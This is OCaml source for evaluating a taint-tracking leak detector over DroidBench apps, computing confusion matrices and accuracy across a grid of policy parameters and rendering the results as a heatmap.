(** Condense sink flows for {!Pift_core.Provenance.Graph.flow_json}. *)

val pp_sink_flow : Format.formatter -> sink_flow -> unit
(** Human-readable per-sink paths, one line per origin. *)
