module Policy = Pift_core.Policy
module App = Pift_workloads.App

type confusion = { tp : int; fp : int; tn : int; fn : int }

let total c = c.tp + c.fp + c.tn + c.fn

let accuracy c =
  if total c = 0 then 0.
  else float_of_int (c.tp + c.tn) /. float_of_int (total c)

let fp_rate c =
  if c.fp + c.tn = 0 then 0. else float_of_int c.fp /. float_of_int (c.fp + c.tn)

let fn_rate c =
  if c.fn + c.tp = 0 then 0. else float_of_int c.fn /. float_of_int (c.fn + c.tp)

type sweep = {
  apps : int;
  nis : int list;
  nts : int list;
  cells : ((int * int) * confusion) list;
}

let classify ~leaky ~flagged c =
  match (leaky, flagged) with
  | true, true -> { c with tp = c.tp + 1 }
  | true, false -> { c with fn = c.fn + 1 }
  | false, true -> { c with fp = c.fp + 1 }
  | false, false -> { c with tn = c.tn + 1 }

let empty = { tp = 0; fp = 0; tn = 0; fn = 0 }

let evaluate ~policy apps =
  List.fold_left
    (fun acc (app : App.t) ->
      let recorded = Recorded.record app in
      let replay = Recorded.replay ~policy recorded in
      classify ~leaky:app.App.leaky ~flagged:replay.Recorded.flagged acc)
    empty apps

let default_nis = List.init 20 (fun i -> i + 1)
let default_nts = List.init 10 (fun i -> i + 1)

let sweep ?(nis = default_nis) ?(nts = default_nts) ?progress ?metrics apps =
  let n = List.length apps in
  let meters =
    Option.map
      (fun registry ->
        ( Pift_obs.Registry.counter registry ~help:"apps recorded by the sweep"
            "pift_sweep_apps_total",
          Pift_obs.Registry.counter registry
            ~help:"tracker replays across the NIxNT grid"
            "pift_sweep_replays_total",
          Pift_obs.Registry.histogram registry
            ~help:"instructions per recorded app trace"
            "pift_sweep_trace_insns" ))
      metrics
  in
  let cells = Hashtbl.create 256 in
  List.iter
    (fun ni -> List.iter (fun nt -> Hashtbl.replace cells (ni, nt) empty) nts)
    nis;
  List.iteri
    (fun i (app : App.t) ->
      let recorded = Recorded.record app in
      (match meters with
      | None -> ()
      | Some (m_apps, _, m_insns) ->
          Pift_obs.Metric.Counter.incr m_apps;
          Pift_obs.Metric.Histogram.observe m_insns
            (Pift_trace.Trace.length recorded.Recorded.trace));
      List.iter
        (fun ni ->
          List.iter
            (fun nt ->
              let policy = Policy.make ~ni ~nt () in
              let replay = Recorded.replay ~policy recorded in
              (match meters with
              | None -> ()
              | Some (_, m_replays, _) ->
                  Pift_obs.Metric.Counter.incr m_replays);
              let c = Hashtbl.find cells (ni, nt) in
              Hashtbl.replace cells (ni, nt)
                (classify ~leaky:app.App.leaky ~flagged:replay.Recorded.flagged
                   c))
            nts)
        nis;
      match progress with Some f -> f (i + 1) n | None -> ())
    apps;
  {
    apps = List.length apps;
    nis;
    nts;
    cells = Hashtbl.fold (fun k v acc -> (k, v) :: acc) cells [];
  }

let cell sweep ~ni ~nt =
  match List.assoc_opt (ni, nt) sweep.cells with
  | Some c -> c
  | None -> invalid_arg "Accuracy.cell: (ni, nt) outside the sweep"

let misclassified ~policy apps =
  List.filter_map
    (fun (app : App.t) ->
      let recorded = Recorded.record app in
      let replay = Recorded.replay ~policy recorded in
      match (app.App.leaky, replay.Recorded.flagged) with
      | true, false -> Some (app.App.name, `False_negative)
      | false, true -> Some (app.App.name, `False_positive)
      | true, true | false, false -> None)
    apps

let render sweep ppf () =
  Pift_util.Textplot.heatmap
    ~title:
      (Printf.sprintf
         "Fig. 11 — accuracy (%%) over %d DroidBench apps, NI columns x NT \
          rows"
         sweep.apps)
    ~row_label:"NT" ~col_label:"NI" ~rows:sweep.nts ~cols:sweep.nis
    (fun ~row ~col -> 100. *. accuracy (cell sweep ~ni:col ~nt:row))
    ppf ()
